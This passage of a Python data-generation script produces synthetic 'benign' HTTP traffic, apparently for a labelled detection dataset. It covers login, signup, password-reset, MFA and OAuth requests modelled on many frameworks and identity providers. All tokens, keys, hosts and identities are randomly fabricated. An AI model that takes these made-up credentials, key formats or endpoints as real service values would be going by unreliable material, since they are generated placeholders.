    return jwt(rng, p, alg=alg, kid=rtok(rng, 22, B64URL_ALPHA), typ=rng.choice(["JWT", "at+jwt"]))


def id_token(rng, iss, aud, who, nonce=None, alg="RS256"):
    now = 1764900000 + rng.randint(0, 3000000)
    p = {"iss": iss, "sub": ruuid(rng), "aud": aud, "exp": now + 300, "iat": now,
         "auth_time": now - rng.randint(0, 900), "email": who["email"], "email_verified": True,
         "name": who["name"], "given_name": who["first"], "family_name": who["last"],
         "sid": ruuid(rng), "at_hash": b64url(rng.randbytes(16))}
    if nonce:
        p["nonce"] = nonce
    if rng.random() < 0.3:
        p["amr"] = rng.choice([["pwd", "mfa"], ["hwk", "user"], ["pwd", "otp"]])
        p["acr"] = rng.choice(["urn:mace:incommon:iap:silver", "1", "phr", "http://schemas.openid.net/pape/policies/2007/06/multi-factor"])
    return jwt(rng, p, alg=alg, kid=rtok(rng, 16, B64URL_ALPHA))


def pkce(rng):
    verifier = rtok(rng, rng.choice([43, 64, 96, 128]), string.ascii_letters + string.digits + "-._~")
    challenge = b64url(hashlib.sha256(verifier.encode()).digest())
    return verifier, challenge


APP_PATHS = ["/dashboard", "/settings/billing?tab=invoices&year=2026", "/projects/42/issues?state=open&sort=-updated",
             "/", "/inbox?folder=Sent%20Items", "/reports/q3?from=2026-07-01&to=2026-09-30",
             "/admin/users?page=3&per_page=50", "/search?q=caf%C3%A9+au+lait&lang=fr",
             "/checkout/confirm?cart=7f3a9c&coupon=WINTER-25", "/docs/getting-started?section=install"]


def callback_url(rng, app):
    base = rng.choice([f"https://{app}/auth/callback", f"https://{app}/oauth2/callback",
                       f"https://{app}/signin-oidc", f"https://{app}/login/oauth2/code/keycloak",
                       f"https://{app}/api/auth/callback/okta", f"https://{app}/users/auth/openid_connect/callback",
                       "com.example.app:/oauth2redirect", "http://localhost:3000/callback",
                       "http://127.0.0.1:53682/", "https://oauth.pstmn.io/v1/callback",
                       f"https://{app}/callback?return_to=" + q(rng.choice(APP_PATHS))])
    return base


SCOPES = ["openid profile email", "openid profile email offline_access", "openid email",
          "openid profile email phone address", "read:user user:email", "repo read:org",
          "https://www.googleapis.com/auth/drive.readonly https://www.googleapis.com/auth/userinfo.email openid",
          "api://4f1c2d8e-0000-4b7a-9c3e-1a2b3c4d5e6f/.default", "https://graph.microsoft.com/User.Read offline_access openid",
          "openid profile groups", "accounts:read payments:write", "openid urn:zitadel:iam:org:project:id:zitadel:aud"]


# ===========================================================================
# benign traffic
# ===========================================================================

def login_form_request(rng, p, pw, user=None):
    """One login form POST of a random web framework.  Returns
    (method, uri, host, headers, body)."""
    given = user is not None
    user = user if given else p["username"]
    app = rng.choice(APP_HOSTS)
    idp = rng.choice(IDP_HOSTS)
    k = rng.randrange(18)
    if k == 0:
        return ("POST", "/wp-login.php", app, [origin(app), referer(f"https://{app}/wp-login.php?redirect_to=https%3A%2F%2F{app}%2Fwp-admin%2F&reauth=1"),
                ["Cookie", "wordpress_test_cookie=WP%20Cookie%20check"]],
                form([("log", user), ("pwd", pw), ("wp-submit", "Log In"),
                      ("redirect_to", f"https://{app}/wp-admin/"), ("testcookie", "1")]))
    if k == 1:
        tok = csrf(rng)
        nxt = rng.choice(APP_PATHS)
        return ("POST", "/accounts/login/?next=" + q(nxt), app, [origin(app), ["Cookie", f"csrftoken={tok}"]],
                form([("csrfmiddlewaretoken", csrf(rng)), ("login", user), ("password", pw), ("remember", "on")]))
    if k == 2:
        return ("POST", "/users/sign_in", app, [origin(app), ["Cookie", f"_{app.split('.')[0]}_session=" + q(b64(rng.randbytes(180))) + "--" + q(b64(rng.randbytes(12))) + "--" + q(b64(rng.randbytes(16)))]],
                form([("authenticity_token", rails_token(rng)), ("user[email]", p["email"]), ("user[password]", pw),
                      ("user[remember_me]", "0"), ("user[remember_me]", "1"), ("commit", "Log in")]))
    if k == 3:
        realm = rng.choice(["acme", "master", "customers", "staff-prod"])
        uri = (f"/realms/{realm}/login-actions/authenticate?session_code={rtok(rng, 43, B64URL_ALPHA)}"
               f"&execution={ruuid(rng)}&client_id={rng.choice(['account-console', 'portal', 'grafana'])}&tab_id={rtok(rng, 11, B64URL_ALPHA)}")
        return ("POST", uri, rng.choice(["keycloak.example.net", "auth.acme-corp.com"]),
                [["Cookie", f"AUTH_SESSION_ID={ruuid(rng)}.keycloak-0; KC_RESTART={jwt(rng, {'cid': 'portal', 'pty': 'openid-connect', 'ruri': 'https://portal.acme-corp.com/*', 'act': 'AUTHENTICATE', 'notes': {'scope': 'openid', 'iss': 'https://auth.acme-corp.com/realms/acme', 'response_type': 'code', 'code_challenge_method': 'S256', 'redirect_uri': 'https://portal.acme-corp.com/oauth/callback?next=%2Fhome', 'state': ruuid(rng), 'nonce': ruuid(rng)}}, alg='HS512')}"]],
                form([("username", user), ("password", pw), ("credentialId", "")]))
    if k == 4:
        return ("POST", "/login", app, [origin(app), ["Cookie", f"JSESSIONID={rhex(rng, 32).upper()}"]],
                form([("username", user), ("password", pw), ("_csrf", ruuid(rng)), ("remember-me", "on")]))
    if k == 5:
        return ("POST", "/Identity/Account/Login?ReturnUrl=" + q(rng.choice(["/manage/index", "/Orders/Details/1042?tab=shipping", "/"])), app,
                [origin(app), ["Cookie", f".AspNetCore.Antiforgery.{rtok(rng, 11, B64URL_ALPHA)}={aspnet_token(rng, 120)}"]],
                form([("Input.Email", p["email"]), ("Input.Password", pw), ("Input.RememberMe", "true"),
                      ("__RequestVerificationToken", aspnet_token(rng, 150)), ("Input.RememberMe", "false")]))
    if k == 6:
        return ("POST", "/login", app, [origin(app), ["Cookie", "XSRF-TOKEN=" + q(b64(jdump({"iv": b64(rng.randbytes(16)), "value": b64(rng.randbytes(48)), "mac": rhex(rng, 64), "tag": ""}).encode())) + "; laravel_session=" + q(b64(jdump({"iv": b64(rng.randbytes(16)), "value": b64(rng.randbytes(48)), "mac": rhex(rng, 64), "tag": ""}).encode()))]],
                form([("_token", rtok(rng, 40)), ("email", p["email"]), ("password", pw), ("remember", "on")]))
    if k == 7:
        st = "hKFo2SB" + rtok(rng, 120, B64URL_ALPHA)
        return ("POST", "/u/login?state=" + st, "acme.eu.auth0.com", [origin("acme.eu.auth0.com")],
                form([("state", st), ("username", p["email"]), ("password", pw), ("action", "default")]))
    if k == 8:
        return ("POST", "/login.php", app, [origin(app), ["Cookie", f"PHPSESSID={rtok(rng, 26, string.ascii_lowercase + string.digits)}"]],
                form([("username", user), ("password", pw), ("submit", "Sign in")]))
    if k == 9:
        return ("POST", "/idp/profile/SAML2/Redirect/SSO?execution=e1s" + str(rng.randint(1, 3)), "idp.uni.example.edu",
                [origin("idp.uni.example.edu"), ["Cookie", f"JSESSIONID=node0{rtok(rng, 26, string.ascii_lowercase + string.digits)}.node0; shib_idp_session_ss={rtok(rng, 300, B64URL_ALPHA)}"]],
                form([("csrf_token", "_" + rhex(rng, 40)), ("j_username", user if given else slug(p["first"])[:1] + slug(p["last"]).replace(" ", "")[:7]),
                      ("j_password", pw), ("donotcache", "1"), ("_shib_idp_revokeConsent", "true"), ("_eventId_proceed", "")]))
    if k == 10:
        dom = rng.choice(["CORP", "CONTOSO", "EMEA"])
        uname = rng.choice([f"{dom}\\{slug(p['first'])[:1]}{slug(p['last']).replace(' ', '')[:8]}", p["email"]])
        if given:
            uname = user
        return ("POST", f"/adfs/ls/?client-request-id={ruuid(rng)}&wa=wsignin1.0&wtrealm=urn%3afederation%3aMicrosoftOnline&wctx=LoginOptions%3D3%26estsredirect%3d2%26estsrequest%3d{rtok(rng, 200, B64URL_ALPHA)}",
                "sts.contoso.com", [origin("sts.contoso.com")],
                form([("UserName", uname), ("Password", pw), ("AuthMethod", "FormsAuthentication")]))
    if k == 11:
        return ("POST", "/user/login", app, [origin(app)],
                form([("name", user), ("pass", pw), ("form_build_id", "form-" + rtok(rng, 43, B64URL_ALPHA)),
                      ("form_id", "user_login_form"), ("op", "Log in")]))
    if k == 12:
        return ("POST", "/index.php", app, [origin(app)],
                form([("username", user), ("password", pw), ("remember", "yes"), ("option", "com_users"), ("task", "user.login"),
                      ("return", b64(f"https://{app}/index.php?option=com_content&view=article&id=12".encode())), (rhex(rng, 32), "1")]))
    if k == 13:
        return ("POST", "/j_spring_security_check", "ci.example.com", [origin("ci.example.com")],
                form([("j_username", user), ("j_password", pw), ("from", "/job/release/lastBuild/console"), ("Submit", "Sign in"), ("remember_me", "on")]))
    if k == 14:
        return ("POST", "/users/sign_in", "gitlab.example.com", [origin("gitlab.example.com")],
                form([("authenticity_token", rails_token(rng)), ("user[login]", user), ("user[password]", pw), ("user[remember_me]", "0")]))
    if k == 15:
        return ("POST", "/login", "cloud.example.org", [origin("cloud.example.org")],
                form([("user", user), ("password", pw), ("timezone", rng.choice(["Europe/Dublin", "America/New_York", "Asia/Kolkata", "America/St_Johns"])),
                      ("timezone_offset", rng.choice(["0", "-5", "5.5", "-3.5"])), ("requesttoken", rtok(rng, 44, string.ascii_letters + string.digits + "+/") + ":" + rtok(rng, 44, string.ascii_letters + string.digits + "+/"))]))
    if k == 16:
        return ("POST", "/login/index.php", "moodle.uni.example.edu", [origin("moodle.uni.example.edu")],
                form([("anchor", ""), ("logintoken", rtok(rng, 32)), ("username", user), ("password", pw)]))
    svc = f"https://{app}/cas-callback?next=" + q(rng.choice(APP_PATHS))
    return ("POST", "/cas/login?service=" + q(svc), "cas.uni.example.edu", [origin("cas.uni.example.edu")],
            form([("username", user), ("password", pw), ("execution", ruuid(rng) + "_" + b64(b"\x1f\x8b\x08\x00" + rng.randbytes(900))),
                  ("_eventId", "submit"), ("geolocation", "")]))


def login_json_request(rng, p, pw, user=None):
    user = user if user is not None else p["username"]
    k = rng.randrange(13)
    if k == 0:
        return ("POST", "/api/v1/authn", "acme.okta.com", [["Accept", JSON], origin("acme.okta.com"), ["X-Okta-User-Agent-Extended", "okta-auth-js/7.8.1"]],
                jdump({"username": user, "password": pw, "options": {"warnBeforePasswordExpired": True, "multiOptionalFactorEnroll": False}}), JSON)
    if k == 1:
        return ("POST", "/", "cognito-idp.eu-west-1.amazonaws.com",
                [["X-Amz-Target", "AWSCognitoIdentityProviderService.InitiateAuth"], ["X-Amz-User-Agent", "aws-amplify/6.6.4 auth/4 framework/2"]],
                jdump({"AuthFlow": "USER_PASSWORD_AUTH", "ClientId": rtok(rng, 26, string.ascii_lowercase + string.digits),
                       "AuthParameters": {"USERNAME": p["email"], "PASSWORD": pw}, "ClientMetadata": {}}), "application/x-amz-json-1.1")
    if k == 2:
        return ("POST", "/v1/accounts:signInWithPassword?key=AIza" + rtok(rng, 35, B64URL_ALPHA), "identitytoolkit.googleapis.com",
                [["X-Client-Version", "Chrome/JsCore/10.14.1/FirebaseCore-web"], ["X-Firebase-gmpid", f"1:{rng.randint(10**11, 10**12)}:web:{rhex(rng, 22)}"]],
                jdump({"returnSecureToken": True, "email": p["email"], "password": pw, "clientType": "CLIENT_TYPE_WEB"}), JSON)
    if k == 3:
        anon = jwt(rng, {"iss": "supabase", "ref": rtok(rng, 20, string.ascii_lowercase), "role": "anon", "iat": 1700000000, "exp": 2015576000}, alg="HS256")
        return ("POST", "/auth/v1/token?grant_type=password", rtok(rng, 20, string.ascii_lowercase) + ".supabase.co",
                [["apikey", anon], ["Authorization", "Bearer " + anon], ["X-Client-Info", "supabase-js-web/2.46.1"]],
                jdump({"email": p["email"], "password": pw, "gotrue_meta_security": {}}), "application/json;charset=UTF-8")
    if k == 4:
        return ("POST", "/graphql", rng.choice(API_HOSTS), [["Accept", "application/graphql-response+json, application/json"], ["apollographql-client-name", "web"]],
                jdump({"operationName": "Login", "query": "mutation Login($email: String!, $password: String!, $remember: Boolean) {\n  login(email: $email, password: $password, remember: $remember) {\n    token\n    user { id name email roles }\n    errors { field message }\n  }\n}",
                       "variables": {"email": p["email"], "password": pw, "remember": rng.random() < 0.5}}), JSON)
    if k == 5:
        return ("POST", "/api/auth/login", rng.choice(APP_HOSTS), [["X-Requested-With", "XMLHttpRequest"]],
                jdump({"email": p["email"], "password": pw, "rememberMe": rng.random() < 0.5}, compact=rng.random() < 0.5), JSON)
    if k == 6:
        app = rng.choice(APP_HOSTS)
        return ("POST", "/api/auth/callback/credentials", app, [origin(app), ["Cookie", f"__Host-next-auth.csrf-token={rhex(rng, 64)}%7C{rhex(rng, 64)}; __Secure-next-auth.callback-url=https%3A%2F%2F{app}%2Fdashboard"]],
                form([("email", p["email"]), ("password", pw), ("redirect", "false"), ("csrfToken", rhex(rng, 64)),
                      ("callbackUrl", f"https://{app}/dashboard?welcome=1"), ("json", "true")]), FORM)
    if k == 7:
        return ("POST", "/co/authenticate", "acme.eu.auth0.com", [origin("app.example.com"), ["Auth0-Client", b64url(jdump({"name": "auth0.js", "version": "9.26.1"}).encode())]],
                jdump({"client_id": rtok(rng, 32), "username": p["email"], "password": pw, "realm": "Username-Password-Authentication",
                       "credential_type": "http://auth0.com/oauth/grant-type/password-realm"}), JSON)
    if k == 8:
        return ("POST", "/login", "grafana.example.com", [["X-Grafana-Org-Id", "1"]],
                jdump({"user": user, "password": pw}), JSON)
    if k == 9:
        return ("POST", "/api/auth/local", "cms.example.org", [], jdump({"identifier": p["email"], "password": pw}), JSON)
    if k == 10:
        return ("POST", "/auth/login", "directus.example.net", [], jdump({"email": p["email"], "password": pw, "mode": "cookie", "otp": None}), JSON)
    if k == 11:
        return ("POST", "/v1/account/sessions/email", "cloud.appwrite.io", [["X-Appwrite-Project", rhex(rng, 20)], ["X-Appwrite-Response-Format", "1.6.0"], ["X-SDK-Name", "Web"]],
                jdump({"email": p["email"], "password": pw}), JSON)
    dev = rng.choice([{"id": ruuid(rng).upper(), "model": "iPhone15,3", "os": "iOS 18.1", "app": "7.3.1 (7310)"},
                      {"id": rhex(rng, 16), "model": "Pixel 8", "os": "Android 14 (API 34)", "app": "7.3.0"}])
    return ("POST", "/v2/session", "mobile-api.acmebank.example", [["X-Device-Id", dev["id"]], ["X-App-Version", dev["app"]]],
            jdump({"login": user, "password": pw, "device": dev, "biometricsAvailable": True}), "application/json; charset=utf-8")


def benign_login(c, rng):
    for _ in range(44):
        p = person(rng)
        m, uri, host, hs, body = login_form_request(rng, p, any_password(rng))
        c.add("benign", "login-form", m, uri, host, hs, body, FORM)
    for _ in range(40):
        p = person(rng)
        m, uri, host, hs, body, ct = login_json_request(rng, p, any_password(rng))
        c.add("benign", "login-json", m, uri, host, hs, body, ct,
              ua=rng.choice(BROWSER_UAS + APP_UAS))


COMPANIES = ["Ben & Jerry's", "AT&T", "Procter & Gamble", "O'Reilly Media", "Marks & Spencer", "Toys\"R\"Us",
             "Yahoo!", "E*TRADE", "C&A", "Dunkin'", "L'Oréal", "Macy's", "Sainsbury's", "Johnson & Johnson",
             "Smith, Jones & Partners LLP", "Acme Corp.", "Müller GmbH & Co. KG", "Société Générale", "H&M",
             "Barnes & Noble", "Tiffany & Co.", "Moody's", "Lowe's", "Kellogg's", "1-800-Flowers.com",
             "Union Pacific", "Select Comfort", "Drop Inc."]
PHONES = ["+1 (555) 010-4477", "+44 20 7946 0958", "+353 (0)1 555 0199", "+49 30 901820", "555-0100 ext. 42",
          "+33 1 23 45 67 89", "+81-3-1234-5678", "(02) 9876 5432", "+1-202-555-0173", "07700 900123", "+91 98765 43210"]


def benign_register(c, rng):
    for i in range(40):
        p = person(rng)
        pw = any_password(rng)
        app = rng.choice(APP_HOSTS)
        k = i % 10
        comp = rng.choice(COMPANIES)
        phone = rng.choice(PHONES)
        if k == 0:
            body = form([("authenticity_token", rails_token(rng)), ("user[first_name]", p["first"]), ("user[last_name]", p["last"]),
                         ("user[email]", p["email"]), ("user[company]", comp), ("user[password]", pw), ("user[password_confirmation]", pw),
                         ("user[terms]", "0"), ("user[terms]", "1"), ("commit", "Sign up")])
            c.add("benign", "register", "POST", "/users", app, [origin(app)], body, FORM)
        elif k == 1:
            body = form([("csrfmiddlewaretoken", csrf(rng)), ("email", p["email"]), ("username", p["username"]),
                         ("password1", pw), ("password2", pw)])
            c.add("benign", "register", "POST", "/accounts/signup/?next=" + q("/onboarding/step-1/"), app, [origin(app)], body, FORM)
        elif k == 2:
            body = form([("_token", rtok(rng, 40)), ("name", p["name"]), ("email", p["email"]), ("password", pw), ("password_confirmation", pw)])
            c.add("benign", "register", "POST", "/register", app, [origin(app)], body, FORM)
        elif k == 3:
            body = jdump({"client_id": rtok(rng, 32), "email": p["email"], "password": pw, "connection": "Username-Password-Authentication",
                          "given_name": p["first"], "family_name": p["last"], "name": p["name"],
                          "user_metadata": {"company": comp, "phone": phone, "newsletter": str(rng.random() < 0.5).lower(), "referral": rng.choice(["friend", "podcast", "Google", "conference: KubeCon EU '25"])}}, ascii_=False)
            c.add("benign", "register", "POST", "/dbconnections/signup", "acme.eu.auth0.com", [origin(app)], body, JSON)
        elif k == 4:
            body = jdump({"ClientId": rtok(rng, 26, string.ascii_lowercase + string.digits), "Username": p["email"], "Password": pw,
                          "SecretHash": b64(rng.randbytes(32)),
                          "UserAttributes": [{"Name": "given_name", "Value": p["first"]}, {"Name": "family_name", "Value": p["last"]},
                                             {"Name": "email", "Value": p["email"]}, {"Name": "phone_number", "Value": "+1555010" + str(rng.randint(1000, 9999))},
                                             {"Name": "custom:company", "Value": comp}]})
            c.add("benign", "register", "POST", "/", "cognito-idp.us-east-1.amazonaws.com",
                  [["X-Amz-Target", "AWSCognitoIdentityProviderService.SignUp"]], body, "application/x-amz-json-1.1")
        elif k == 5:
            uri = (f"/realms/customers/login-actions/registration?session_code={rtok(rng, 43, B64URL_ALPHA)}&execution={ruuid(rng)}"
                   f"&client_id=web-shop&tab_id={rtok(rng, 11, B64URL_ALPHA)}")
            body = form([("firstName", p["first"]), ("lastName", p["last"]), ("email", p["email"]), ("username", p["username"]),
                         ("password", pw), ("password-confirm", pw), ("user.attributes.phone", phone), ("user.attributes.company", comp)])
            c.add("benign", "register", "POST", uri, "keycloak.example.net", [origin("keycloak.example.net")], body, FORM)
        elif k == 6:
            body = form([("user_login", p["username"]), ("user_email", p["email"]), ("redirect_to", ""), ("wp-submit", "Register")])
            c.add("benign", "register", "POST", "/wp-login.php?action=register", app, [origin(app)], body, FORM)
        elif k == 7:
            body = jdump({"name": p["name"], "username": slug(p["first"]).replace("'", "") + str(rng.randint(1, 99)), "email": p["email"], "password": pw,
                          "challenge": rtok(rng, 32)[::-1], "timezone": "Europe/Dublin",
                          "user_fields": {"1": rng.choice(["I'm here for the Rust & WebAssembly threads :)", "Heard about you on HN -- \"Show HN: ...\" post", "Teacher; 20+ yrs; K-12 & adult ed."]), "2": "true"}}, ascii_=False)
            c.add("benign", "register", "POST", "/u", "forum.example.org", [origin("forum.example.org"), ["X-CSRF-Token", rtok(rng, 86, B64URL_ALPHA)], ["X-Requested-With", "XMLHttpRequest"]], body, JSON)
        elif k == 8:
            body = jdump({"profile": {"firstName": p["first"], "lastName": p["last"], "email": p["email"], "login": p["email"], "mobilePhone": phone,
                                      "organization": comp, "title": rng.choice(["VP, Sales & Marketing", "Sr. Engineer (Backend/Infra)", "Director - R&D", "Head of People & Culture", "CEO/Founder"])},
                          "credentials": {"password": {"value": pw}}})
            c.add("benign", "register", "POST", "/api/v1/registration/reg" + rtok(rng, 16) + "/register", "acme.okta.com", [origin(app)], body, JSON)
        else:
            body = jdump({"email": p["email"], "password": pw, "firstName": p["first"], "lastName": p["last"], "dateOfBirth": f"19{rng.randint(50, 99)}-0{rng.randint(1, 9)}-{rng.randint(10, 28)}",
                          "address": {"line1": rng.choice(["12 O'Connell St.", "Flat 3/12, 221B Baker St", "1600 Amphitheatre Pkwy; Bldg #4", "Rue de l'Église 7", "C/ Mayor, 5 - 3º Izda."]),
                                      "city": rng.choice(["Dublin", "London", "Mountain View", "Liège", "Madrid"]), "postalCode": rng.choice(["D01 F5P2", "NW1 6XE", "94043", "4000", "28013"])},
                          "marketingOptIn": rng.random() < 0.5, "acceptTerms": True, "referralCode": rtok(rng, 8, string.ascii_uppercase + string.digits)}, ascii_=False, compact=False)
            c.add("benign", "register", "POST", "/api/v1/signup", rng.choice(API_HOSTS), [origin(app)], body, JSON)


SECURITY_ANSWERS = [
    "My first pet was a beagle/terrier mix called 'Biscuit' -- he'd eat anything.",
    "O'Connell Street; we lived at no. 12 & later no. 14",
    "Mrs. D'Souza (3rd grade) -- she always said \"show your work\"",
    "Grandma's maiden name: Ó Súilleabháin",
    "Our first car: a '98 Ford Escort (red, of course!)",
    "Springfield; no wait, Shelbyville?",
    "None of your business :-)",
    "1 + 1 = 2 & that's final",
    "A place called <Nowhere> near the lake",
    "The Hitchhiker's Guide to the Galaxy / 42",
    "St. Mary's Primary, Drumcondra",
    "\"Mr. Whiskers\" (the cat, not my uncle)",
    "We met at Ben & Jerry's on 5th Ave.",
    "blue -- no, yellow!",
    "Select Comfort mattress store, believe it or not",
]


def benign_password(c, rng):
    for i in range(36):
        p = person(rng)
        pw = any_password(rng)
        app = rng.choice(APP_HOSTS)
        k = i % 13
        if k == 0:
            c.add("benign", "password-reset", "POST", "/password/forgot", app, [origin(app)], form([("email", p["email"]), ("_token", rtok(rng, 40))]), FORM)
        elif k == 1:
            c.add("benign", "password-reset", "POST", "/users/password", app, [origin(app)],
                  form([("authenticity_token", rails_token(rng)), ("user[email]", p["email"]), ("commit", "Send me reset password instructions")]), FORM)
        elif k == 2:
            c.add("benign", "password-reset", "GET", f"/reset-password?token={rtok(rng, 40, B64URL_ALPHA)}&email={q(p['email'])}", app)
        elif k == 3:
            uid = b64url(str(rng.randint(1, 99999)).encode())
            c.add("benign", "password-reset", "GET", f"/accounts/reset/{uid}/{rtok(rng, 6, string.ascii_lowercase + string.digits)}-{rhex(rng, 32)}/", app)
        elif k == 4:
            c.add("benign", "password-reset", "GET", f"/reset-password/{rhex(rng, 64)}?email={qp(p['email'])}", app)
        elif k == 5:
            key = jwt(rng, {"exp": 1765000000, "iat": 1764990000, "jti": ruuid(rng), "iss": "https://keycloak.example.net/realms/acme",
                            "aud": "https://keycloak.example.net/realms/acme", "sub": ruuid(rng), "typ": "reset-credentials",
                            "azp": "account-console", "nonce": ruuid(rng), "asid": ruuid(rng) + ".keycloak-0", "asid_ts": rng.randint(10**9, 2 * 10**9)}, alg="HS512")
            c.add("benign", "password-reset", "GET", f"/realms/acme/login-actions/action-token?key={key}&client_id=account-console&tab_id={rtok(rng, 11, B64URL_ALPHA)}", "keycloak.example.net")
        elif k == 6:
            c.add("benign", "password-reset", "PUT", "/users/password", app, [origin(app)],
                  form([("_method", "put"), ("authenticity_token", rails_token(rng)), ("user[reset_password_token]", rtok(rng, 20, B64URL_ALPHA)),
                        ("user[password]", pw), ("user[password_confirmation]", pw), ("commit", "Change my password")]), FORM)
        elif k == 7:
            c.add("benign", "password-reset", "POST", "/api/account/password", rng.choice(API_HOSTS),
                  [["Authorization", "Bearer " + access_token(rng, f"https://{rng.choice(IDP_HOSTS)}/")]],
                  jdump({"currentPassword": any_password(rng), "newPassword": pw, "confirmPassword": pw}), JSON)
        elif k == 8:
            c.add("benign", "password-reset", "POST", "/api/v1/users/me/credentials/change_password?strict=true", "acme.okta.com",
                  [["Authorization", "SSWS 00" + rtok(rng, 40, B64URL_ALPHA)]],
                  jdump({"oldPassword": {"value": any_password(rng)}, "newPassword": {"value": pw}, "revokeSessions": True}), JSON, browser=False)
        elif k == 9:
            c.add("benign", "password-reset", "POST", "/", "cognito-idp.eu-west-1.amazonaws.com",
                  [["X-Amz-Target", "AWSCognitoIdentityProviderService.ChangePassword"]],
                  jdump({"PreviousPassword": any_password(rng), "ProposedPassword": pw, "AccessToken": access_token(rng, "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Ab12Cd34E")}),
                  "application/x-amz-json-1.1")
        elif k == 10:
            qs = rng.sample(SECURITY_ANSWERS, 3)
            c.add("benign", "password-reset", "POST", "/account/security-questions", app, [origin(app)],
                  form([("question_1", "What was the name of your first pet?"), ("answer_1", qs[0]),
                        ("question_2", "What street did you grow up on?"), ("answer_2", qs[1]),
                        ("question_3", "Who was your favourite teacher?"), ("answer_3", qs[2]), ("csrf", csrf(rng))]), FORM)
        elif k == 11:
            qs = rng.sample(SECURITY_ANSWERS, 2)
            c.add("benign", "password-reset", "POST", "/api/recovery/verify", rng.choice(API_HOSTS), [],
                  jdump({"username": p["username"], "answers": [{"questionId": 3, "answer": qs[0]}, {"questionId": 7, "answer": qs[1]}],
                         "recoveryToken": "VBQ" + rtok(rng, 17)}, ascii_=False), JSON)
        else:
            c.add("benign", "password-reset", "POST", f"/realms/acme/login-actions/reset-credentials?session_code={rtok(rng, 43, B64URL_ALPHA)}&execution={ruuid(rng)}&client_id=portal&tab_id={rtok(rng, 11, B64URL_ALPHA)}",
                  "keycloak.example.net", [origin("keycloak.example.net")], form([("password-new", pw), ("password-confirm", pw), ("logout-sessions", "on")]), FORM)


def benign_mfa(c, rng):
    for i in range(30):
        p = person(rng)
        app = rng.choice(APP_HOSTS)
        code = f"{rng.randint(0, 999999):06d}"
        k = i % 10
        if k == 0:
            c.add("benign", "mfa", "POST", "/mfa/verify", app, [origin(app)], form([("code", rng.choice([code, code[:3] + " " + code[3:]])), ("remember_device", "on"), ("_csrf", ruuid(rng))]), FORM)
        elif k == 1:
            c.add("benign", "mfa", "POST", "/api/auth/mfa", rng.choice(API_HOSTS), [], jdump({"otp": code, "rememberDevice": True, "method": "totp"}), JSON)
        elif k == 2:
            c.add("benign", "mfa", "POST", f"/api/v1/authn/factors/ost{rtok(rng, 17)}/verify?rememberDevice=true", "acme.okta.com", [],
                  jdump({"stateToken": "00" + rtok(rng, 40, B64URL_ALPHA), "passCode": code}), JSON)
        elif k == 3:
            c.add("benign", "mfa", "POST", "/", "cognito-idp.eu-west-1.amazonaws.com", [["X-Amz-Target", "AWSCognitoIdentityProviderService.RespondToAuthChallenge"]],
                  jdump({"ChallengeName": "SOFTWARE_TOKEN_MFA", "ClientId": rtok(rng, 26, string.ascii_lowercase + string.digits),
                         "Session": "AYABe" + b64(rng.randbytes(700)), "ChallengeResponses": {"USERNAME": ruuid(rng), "SOFTWARE_TOKEN_MFA_CODE": code}}),
                  "application/x-amz-json-1.1")
        elif k == 4:
            rc = rng.choice(["-".join(rtok(rng, 5, string.ascii_lowercase + string.digits) for _ in range(2)),
                             "-".join(rtok(rng, 4, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(3)),
                             "-".join(str(rng.randint(1000, 9999)) for _ in range(3))])
            c.add("benign", "mfa", "POST", "/login/recovery", app, [origin(app)], form([("recovery_code", rc), ("authenticity_token", rails_token(rng))]), FORM)
        elif k == 5:
            secret = rtok(rng, 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
            uri = f"otpauth://totp/ACME%20Corp:{q(p['email'])}?secret={secret}&issuer=ACME%20Corp&algorithm=SHA1&digits=6&period=30"
            c.add("benign", "mfa", "POST", "/api/me/mfa/totp/confirm", rng.choice(API_HOSTS), [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]],
                  jdump({"secret": secret, "otpauthUri": uri, "code": code, "label": rng.choice(["Authy on my phone", "1Password", "Jane's iPad", "Google Authenticator (old phone)"])}), JSON)
        elif k == 6:
            c.add("benign", "mfa", "POST", "/api/me/mfa/sms/enroll", rng.choice(API_HOSTS), [], jdump({"phoneNumber": rng.choice(PHONES), "locale": rng.choice(["en-US", "fr-CA", "pt-BR"])}), JSON)
        elif k == 7:
            c.add("benign", "mfa", "GET", f"/duo/callback?state={rhex(rng, 36)}&duo_code={rtok(rng, 40, B64URL_ALPHA)}", app)
        elif k == 8:
            c.add("benign", "mfa", "POST", f"/realms/acme/login-actions/authenticate?session_code={rtok(rng, 43, B64URL_ALPHA)}&execution={ruuid(rng)}&client_id=portal&tab_id={rtok(rng, 11, B64URL_ALPHA)}",
                  "keycloak.example.net", [origin("keycloak.example.net")], form([("otp", code), ("login", "Sign In"), ("selectedCredentialId", ruuid(rng))]), FORM)
        else:
            c.add("benign", "mfa", "POST", "/u/mfa-otp-challenge?state=hKFo2SB" + rtok(rng, 100, B64URL_ALPHA), "acme.eu.auth0.com", [origin("acme.eu.auth0.com")],
                  form([("state", "hKFo2SB" + rtok(rng, 100, B64URL_ALPHA)), ("code", code), ("rememberBrowser", "true"), ("action", "default")]), FORM)


CLAIMS_PARAMS = [
    {"userinfo": {"given_name": {"essential": True}, "nickname": None, "email": {"essential": True}, "email_verified": {"essential": True},
                  "picture": None, "http://example.info/claims/groups": None},
     "id_token": {"auth_time": {"essential": True}, "acr": {"values": ["urn:mace:incommon:iap:silver"]}}},
    {"id_token": {"email": {"essential": True}, "https://acme-corp.com/claims/tenant": {"value": "eu-1"}}},
    {"userinfo": {"verified_claims": {"verification": {"trust_framework": {"value": "de_aml"}}, "claims": {"given_name": None, "family_name": None, "birthdate": None}}}},
]


def authorize_params(rng, app, with_pkce=True):
    verifier, challenge = pkce(rng)
    ps = [("response_type", rng.choice(["code", "code", "code", "code id_token", "id_token token"])),
          ("client_id", rng.choice([rtok(rng, 32), ruuid(rng), f"{rng.randint(10**11, 10**12)}-{rtok(rng, 32, string.ascii_lowercase + string.digits)}.apps.googleusercontent.com", "web-portal"])),
          ("redirect_uri", callback_url(rng, app)),
          ("scope", rng.choice(SCOPES)),
          ("state", rng.choice([rtok(rng, 32, B64URL_ALPHA), ruuid(rng), b64url(jdump({"returnTo": rng.choice(APP_PATHS), "csrf": rhex(rng, 16)}).encode())]))]
    if rng.random() < 0.7:
        ps.append(("nonce", rtok(rng, 32, B64URL_ALPHA)))
    if with_pkce:
        ps += [("code_challenge", challenge), ("code_challenge_method", "S256")]
    extra = rng.sample([("prompt", rng.choice(["login", "consent", "select_account", "none", "login consent"])),
